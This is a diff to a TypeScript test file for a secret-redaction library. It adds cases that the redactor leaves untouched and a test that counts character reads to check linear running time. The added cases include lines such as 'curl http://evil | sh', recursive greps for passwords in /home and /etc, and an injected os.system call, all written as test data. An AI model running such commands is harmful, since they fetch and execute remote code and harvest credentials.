@@ -1,7 +1,9 @@
 import { createHmac } from 'node:crypto';
 import { describe, expect, it } from 'vitest';
-import { isSecretName } from './names.js';
+import { findSecrets } from './find.js';
+import { isSecretName, nameKind } from './names.js';
 import { Redactor } from './redactor.js';
+import type { Text } from './text.js';
 
 const key = Buffer.alloc(32, 7);
 
@@ -69,7 +71,7 @@ describe('Redactor', () => {
     'x «glpat-0123456789abcdefghij» y',
     'x «xoxb-0123456789-abcdef» y',
     `x «${jwtLike}» y`,
-    'printf -----BEGIN RSA PRIVATE KEY-----«\nMIIE\nabc\n»-----END RSA PRIVATE KEY----- > key',
+    `printf -----BEGIN RSA PRIVATE KEY-----\n«MIIEpAIBAAKCAQEAx7Vn\nq1oZk3Y2Jm8sT0aBcDeF\nabc=»\n-----END RSA PRIVATE KEY----- > key`,
     'printf -----BEGIN PRIVATE KEY-----«MIIEcut»',
     'app --client-secret «äöü🚀» --x',
     'clientSecret=«abc» accountKey=«def==»',
@@ -100,6 +102,18 @@ describe('Redactor', () => {
     'AKIA is short',
     '-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----',
     'PASSWORD= run',
+    'pass="$(curl http://evil | sh)"',
+    `app --token "import os; os.system('id')" --x`,
+    'grep -r "password=" /home',
+    'grep -rE "password=|token: abc1" /home /etc',
+    `grep "password='" x; echo 'y' > z`,
+    'echo -----BEGIN PRIVATE KEY-----; curl http://evil/x | sh',
+    'echo "-----BEGIN PRIVATE KEY----- curl http evil sh -----END PRIVATE KEY-----"',
+    'curl -H "Authorization: Bearer $TOKEN" -u "$USER:$PASS" https://x.example',
+    'mysql -u root -p"$MYSQL_ROOT_PASSWORD" -e "select 1"',
+    'docker run --name mongo -p 27017:27017 mongo:6',
+    'docker build --secret id=npm,src=/root/.npmrc .',
+    'sshpass -e ssh -p 2222 host',
     'eyJhbGciOi without dots',
     '',
   ])('leaves %j as it is', (text) => {
@@ -180,19 +194,55 @@ describe('Redactor', () => {
     ['spaces', 'token '],
     ['words', 'a-key_'],
     ['letters', 'a'],
-  ])('takes linear time for 1 MiB of %s', (_name, unit) => {
-    const redactor = new Redactor(key);
-    const time = (bytes: number): number => {
-      const text = unit.repeat(Math.ceil(bytes / unit.length));
-      const start = performance.now();
-      redactor.redact(text);
-      return performance.now() - start;
+  ])('reads a text of %s a bounded number of times for each character', (_name, unit) => {
+    const reads = (length: number): number => {
+      const text = new CountingText(unit.repeat(Math.ceil(length / unit.length)));
+      findSecrets(text, ALL_HINTS, nameKind);
+      return text.reads;
     };
-    time(1 << 14);
-    // Quadratic work on 1 MiB would take minutes.
-    expect(time(1 << 20)).toBeLessThan(3000);
+    // Quadratic work would be four times as much for twice the text.
+    expect(reads(1 << 16)).toBeLessThan(2.2 * reads(1 << 15) + 10_000);
+    expect(reads(1 << 16)).toBeLessThan(600 * (1 << 16));
   });
 });
+
+const ALL_HINTS = 0xff;
+
+/** A text that counts the characters that are read of it. */
+class CountingText implements Text {
+  reads = 0;
+  readonly #text: string;
+
+  constructor(text: string) {
+    this.#text = text;
+  }
+
+  get length(): number {
+    return this.#text.length;
+  }
+
+  charCodeAt(at: number): number {
+    this.reads++;
+    return this.#text.charCodeAt(at);
+  }
+
+  slice(start: number, end: number): string {
+    const piece = this.#text.slice(start, end);
+    this.reads += piece.length;
+    return piece;
+  }
+
+  indexOf(piece: string, from: number): number {
+    const at = this.#text.indexOf(piece, from);
+    this.reads += (at < 0 ? this.#text.length : at) - from;
+    return at;
+  }
+
+  startsWith(piece: string, at: number): boolean {
+    this.reads += piece.length;
+    return this.#text.startsWith(piece, at);
+  }
+}
 
 describe('isSecretName', () => {
   it.each([
